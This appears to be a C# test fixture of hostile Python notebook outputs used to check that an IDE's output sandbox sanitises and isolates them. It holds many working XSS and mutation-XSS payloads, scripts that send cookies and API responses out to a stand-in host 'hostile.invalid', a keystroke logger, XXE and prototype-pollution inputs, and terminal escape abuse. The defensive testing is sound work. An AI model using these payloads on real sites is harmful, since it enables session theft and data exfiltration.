namespace Ide.E2E.Hostile;

/// <summary>
/// What somebody could make a sandbox show to harm who looks at it: Python that shows it, each under a name. A script that
/// runs in the page sets <c>window.hostile</c>, in a frame tries <c>top</c> and <c>parent</c>; what leaves asks
/// <c>hostile.invalid</c>, for which the test puts a server of its own that counts who comes.
/// </summary>
internal static class HostileOutputs
{
    /// <summary>JS is what each tries to run, OUT what each tries to fetch; show() shows one MIME bundle.</summary>
    public const string Prelude =
        """
        import json, sys
        JS = "window.hostile=1;try{top.hostile=1}catch(e){};try{parent.hostile=1}catch(e){}"
        OUT = "http://hostile.invalid/x"
        CALL = "try{const c=new RTCPeerConnection({iceServers:[{urls:'turn:hostile.invalid?transport=tcp',username:'stolen',credential:'x'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))}catch(e){}"
        def show(**bundle): display({key.replace("__", "/").replace("_", "+"): value for key, value in bundle.items()}, raw=True)
        def html(text): display({"text/html": text}, raw=True)
        """;

    public static IReadOnlyList<(string Name, string Python)> All { get; } =
    [
        // HTML without scripts: sanitised
        ("an event handler", """html(f'<img src=x onerror="{JS}">')"""),
        ("an event handler without quotes", """html('<svg/onload=window.hostile=1>')"""),
        ("a handler on a details", """html(f'<details open ontoggle="{JS}">x</details>')"""),
        ("a link that runs", """html(f'<a href="javascript:{JS}">x</a><a href=" java\tscript:{JS}">y</a>')"""),
        ("a link to data", """html('<a href="data:text/html,<script>opener.hostile=1</script>">x</a>')"""),
        ("a form", """html(f'<form action="{OUT}"><input name=a><button formaction="{OUT}">go</button></form>')"""),
        ("a base", """html(f'<base href="{OUT}"><a href="x">x</a>')"""),
        ("a refresh", """html(f'<meta http-equiv="refresh" content="0;url={OUT}">')"""),
        ("a style sheet", """html(f'<link rel=stylesheet href="{OUT}"><style>@import url({OUT});* {{background: url({OUT})}}</style><p>x</p>')"""),
        ("a style that asks for a font", """html(f'<style>@font-face {{font-family: h; src: url({OUT})}} p {{font-family: h}}</style><p>x</p>')"""),
        ("pictures of all kinds", """html(f'<img src="{OUT}" srcset="{OUT} 2x"><picture><source srcset="{OUT}"><img></picture><video poster="{OUT}"></video><input type=image src="{OUT}">')"""),
        ("pictures of this host", """html('<img src="/reached"><img srcset="/reached 2x"><picture><source srcset="reached"><img></picture><video src="/reached" poster="/reached"></video><table background="/reached"><tr><td>x</table>')"""),
        ("a style sheet of this host", """html('<style>@import "/reached"; p {color: red}</style><p>x</p>')"""),
        ("a picture of this host among others", """html('<img srcset="data:,x 0.1x, /reached 1x"><div style="--x: u\\72l(/reached); background: var(--x)">x</div>')"""),
        ("styles of this host", """html(r'<style>@import url(/reached);p {background: u\72l(/reached)} @font-face {font-family: r; src: url("/reached")}</style><p style="font-family: r; border-image: url(/reached)">x</p><div style="background: image-set(\'/reached\' 1x); list-style: url(/reached)">x</div>')"""),
        ("sound", """html(f'<audio src="{OUT}" autoplay></audio><video src="{OUT}" autoplay></video>')"""),
        ("SVG in HTML", """html(f'<svg><script>{JS}</script><image href="{OUT}"/><use href="{OUT}#a"/><animate onbegin="{JS}"/><a xlink:href="javascript:{JS}"><text>x</text></a></svg>')"""),
        ("MathML in HTML", """html(f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}"></style></mglyph></table></mtext></math>')"""),
        ("a mutation", """html('<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hostile=1>')"""),
        ("a comment that is none", """html('<!--><img src=x onerror=window.hostile=1>-->')"""),
        ("a noscript", """html('<noscript><p title="</noscript><img src=x onerror=window.hostile=1>"></noscript>')"""),
        ("a template", """html(f'<template shadowrootmode=open><script>{JS}</script></template>')"""),
        ("clobbered names", """html('<a id=hostile></a><img name=getElementById><form name=body><input name=firstChild></form>')"""),
        ("a cover over the page", """html('<style>:host{position:fixed!important;inset:0!important;z-index:99999!important;display:block!important}</style><div style="position:fixed;inset:0;z-index:99999;background:red">sign in again</div>')"""),
        ("a popover and a dialog", """html('<div popover id=p>x</div><button popovertarget=p>x</button><dialog open style="position:fixed;inset:0">x</dialog>')"""),
        ("a custom element", """html(f'<x-y onclick="{JS}" is="z">x</x-y>')"""),
        ("a huge nesting", """html('<div>' * 20000 + 'x')"""),
        ("a link out", """html(f'<a href="{OUT}" ping="{OUT}" target="_top">x</a>')"""),

        // HTML with scripts: in a frame
        ("a script", """html(f'<script>{JS}</script>')"""),
        ("a script that fetches", """html(f'<script>fetch("{OUT}").catch(()=>0);new Image().src="{OUT}";navigator.sendBeacon("{OUT}");try{{new WebSocket("ws://hostile.invalid/")}}catch(e){{}};try{{new EventSource("{OUT}")}}catch(e){{}}</script>')"""),
        ("a script from elsewhere", """html(f'<script src="{OUT}"></script><script>import("{OUT}").catch(()=>0)</script>')"""),
        ("a script that calls the product", """html('<script>fetch("/api/sandboxes",{credentials:"include"}).then(r=>r.text()).then(t=>parent.postMessage({stolen:t},"*")).catch(()=>0)</script>')"""),
        ("a script that reads storage", """html('<script>try{parent.postMessage({stolen:document.cookie+localStorage.length},"*")}catch(e){}</script>')"""),
        ("a script that leaves", """html(f'<script>try{{top.location="{OUT}"}}catch(e){{}};try{{parent.location="{OUT}"}}catch(e){{}}</script>')"""),
        ("a frame that leaves by itself", """html(f'<script>location="{OUT}"</script>')"""),
        ("a frame that goes to the product", """html('<script>location="/"</script>')"""),
        ("a frame that goes to data", """html('<script>location="data:text/html,<img src=http://hostile.invalid/data><script>fetch(\\"http://hostile.invalid/data\\")<\\/script>"</script>')"""),
        ("a frame that opens windows", """html(f'<script>try{{open("{OUT}")}}catch(e){{}};try{{alert(1);confirm(1);prompt(1);print()}}catch(e){{}}</script>')"""),
        ("a frame that clicks", """html(f'<a id=a href="{OUT}" target=_blank>x</a><a id=b href="{OUT}" download>x</a><form id=f action="{OUT}" target=_blank></form><script>a.click();b.click();f.submit()</script>')"""),
        ("a frame in a frame", """html(f'<iframe src="{OUT}"></iframe><iframe srcdoc="<script>{JS}</script>"></iframe><object data="{OUT}"></object><embed src="{OUT}">')"""),
        ("a frame that calls out", """html(f'<script>{CALL}</script>')"""),
        ("a frame that becomes one that calls out", """html('<script>location="data:text/html,"+encodeURIComponent(' + json.dumps(f'<script>{CALL}</script>').replace('</', '<\\/') + ')</script>')"""),
        ("a frame that becomes a blob that calls out", """html('<script>location=URL.createObjectURL(new Blob([' + json.dumps(f'<script>{CALL}</script>').replace('</', '<\\/') + '],{type:"text/html"}))</script>')"""),
        ("forged messages", """html('<script>for(const m of [{ready:true},{height:1e9},{height:-5},{height:"1px"},{height:NaN},null,"x",{content:{kind:"html",html:"<b>x</b>"}},{theme:"x"}])parent.postMessage(m,"*")</script>')"""),
        ("a flood of messages", """html('<script>setInterval(()=>{for(let i=0;i<500;i++)parent.postMessage({height:100+i%2*50},"*")},1)</script>')"""),
        ("a worker", """html(f'<script>try{{new Worker(URL.createObjectURL(new Blob(["fetch(\\"{OUT}\\")"])))}}catch(e){{}}</script>')"""),
        ("a script that takes the keyboard", """html('<input autofocus><script>document.querySelector("input").focus();addEventListener("keydown",e=>parent.postMessage({key:e.key},"*"))</script>')"""),

        // Pictures, charts, texts of other kinds
        ("an SVG with scripts", """show(image__svg_xml=f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}" width="9" height="9"><script>{JS}</script><image href="{OUT}"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="{OUT}"/></body></foreignObject></svg>')"""),
        ("an SVG with an entity", """show(image__svg_xml='<!DOCTYPE svg [<!ENTITY a SYSTEM "http://hostile.invalid/dtd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>')"""),
        ("a PNG that is HTML", """show(image__png='PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+')"""),
        ("a PNG that is no base64", """show(image__png='"><img src=x onerror=window.hostile=1>')"""),
        ("Markdown", """show(text__markdown=f'<script>{JS}</script><img src=x onerror="{JS}">\n\n[x](javascript:{JS}) ![y]({OUT}) [z](data:text/html,x)\n\n<a href="javascript:{JS}">x</a>')"""),
        ("Markdown with formulas", """show(text__markdown=r'$\href{javascript:window.hostile=1}{x}$ $\includegraphics{http://hostile.invalid/x}$')"""),
        ("LaTeX links and pictures", """show(text__latex=r'$\href{javascript:window.hostile=1}{x} \url{javascript:window.hostile=1} \includegraphics{http://hostile.invalid/x} \htmlStyle{position:fixed}{x} \htmlData{a=b}{x}$')"""),
        ("LaTeX without end", """show(text__latex=r'$\def\a{\a\a}\a$')"""),
        ("LaTeX as HTML", """show(text__latex='<img src=x onerror=window.hostile=1>')"""),
        ("a Plotly figure with HTML", """show(**{'application__vnd.plotly.v1_json': {'data': [{'type': 'scatter', 'x': [1], 'y': [1], 'text': f'<img src=x onerror="{JS}"><a href="javascript:{JS}">x</a>', 'mode': 'text'}], 'layout': {'title': {'text': f'<script>{JS}</script><a href="{OUT}">x</a>'}, 'images': [{'source': OUT, 'x': 0, 'y': 1, 'sizex': 1, 'sizey': 1}]}}})"""),
        ("a Plotly map", """show(**{'application__vnd.plotly.v1_json': {'data': [{'type': 'scattergeo', 'lon': [1], 'lat': [1]}], 'layout': {}, 'config': {'topojsonURL': OUT, 'plotlyServerURL': OUT}}})"""),
        ("a Plotly figure that is none", """show(**{'application__vnd.plotly.v1_json': 'not JSON'})"""),
        ("a Vega spec that fetches", """show(**{'application__vnd.vegalite.v5_json': {'data': {'url': OUT}, 'mark': {'type': 'image', 'url': OUT}, 'encoding': {'x': {'field': 'a'}, 'href': {'value': f'javascript:{JS}'}}}})"""),
        ("a Vega expression", """show(**{'application__vnd.vega.v5_json': {'signals': [{'name': 'a', 'init': "constructor.constructor('top.hostile=1')()"}], 'marks': []}})"""),
        ("a Vega loader", """show(**{'application__vnd.vega.v5_json': {'usermeta': {'embedOptions': {'loader': {'baseURL': OUT}, 'config': OUT, 'patch': OUT}}, 'data': [{'name': 'd', 'url': 'x.json'}], 'marks': []}})"""),
        ("JSON", """show(application__json={f'<img src=x onerror="{JS}">': [f'<script>{JS}</script>'], '__proto__': {'hostile': 1}, 'constructor': {'prototype': {'hostile': 1}}})"""),
        ("JSON that is deep", """show(application__json=json.loads('[' * 40 + ']' * 40))"""),
        ("a table", """show(**{'application__vnd.ide.table_json': {'columns': [f'<img src=x onerror="{JS}">'], 'rows': [[f'<script>{JS}</script>'], [{'a': 1}], 'no row'], 'dtypes': 3, 'index': [f'<b>x</b>'], 'total': -1}})"""),
        ("a chart", """show(**{'application__vnd.ide.chart_json': {'type': 'line', 'title': f'<script>{JS}</script>', 'elements': [{'label': f'<img src=x onerror="{JS}">', 'color': f'url({OUT})', 'points': [[0, 1e308], [1, -1e308], ['x', None]]}]}})"""),
        ("odd types", """show(**{'text__html"><img src=x onerror=window.hostile=1>': 'x', '__proto__': 'x', 'audio__x"><b>': 'AA==', 'video__': 'x', '': 'x', 'image__gif': 'x'})"""),
        ("sound that is none", """show(audio__wav='PHNjcmlwdD4=')"""),
        ("a document that is none", """show(application__pdf='PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+')"""),
        ("JavaScript", """show(application__javascript=JS)"""),

        // Printed text
        ("markup", """print(f'<script>{JS}</script><img src=x onerror="{JS}">')"""),
        ("links that run", """print(f'\x1b]8;;javascript:{JS}\x1b\\x\x1b]8;;\x1b\\ \x1b]8;;data:text/html,x\x07y\x1b]8;;\x07')"""),
        ("a link to the product", """print('\x1b]8;;http://localhost/api/sandboxes\x07x\x1b]8;;\x07')"""),
        ("a title, a clipboard, a notification", """print('\x1b]0;hostile title\x07\x1b]2;hostile title\x07\x1b]52;c;aG9zdGlsZQ==\x07\x1b]9;hostile\x07\x1b]777;notify;a;b\x07\x1b]1337;File=inline=1:AAAA\x07\x1bP$q"p\x1b\\')"""),
        ("colours that are none", """print('\x1b[38;2;999;-1;1mx\x1b[38;5;999my\x1b[9999999999999mz\x1b[' + '1;' * 5000 + 'mend')"""),
        ("a cursor that goes far", """print('a\x1b[999999999A\x1b[999999999B\x1b[999999999C\x1b[999999999D\x1b[999999999Gx\x1b[2J\x1b[3J\x1b[H')"""),
        ("a sequence without end", """print('\x1b]0;' + 'x' * 100_000); print('after')"""),
        ("bytes of all kinds", """sys.stdout.flush(); import os; os.write(1, bytes(range(256)) * 20)"""),
        ("text that runs backwards", """print('\u202egnp.exe\u202c \u2066\u2069 \u200b ' + '\u0301' * 2000)"""),
        ("a line of 50 MB", """print('x' * 50_000_000)"""),
        ("an error with markup", """raise ValueError(f'<img src=x onerror="{JS}">')"""),
        ("a trace with forged places", """print('  File "/workspace/<img src=x onerror=window.hostile=1>.py", line 1\n  File "/../../etc/passwd", line 1\n  at javascript:window.hostile=1:1:1', file=sys.stderr)"""),
        ("an error without a name", """type('<b onmouseover=window.hostile=1>x</b>', (Exception,), {'__str__': lambda self: 1 / 0}); raise type('<img src=x onerror=window.hostile=1>', (Exception,), {})('x')"""),
    ];
}
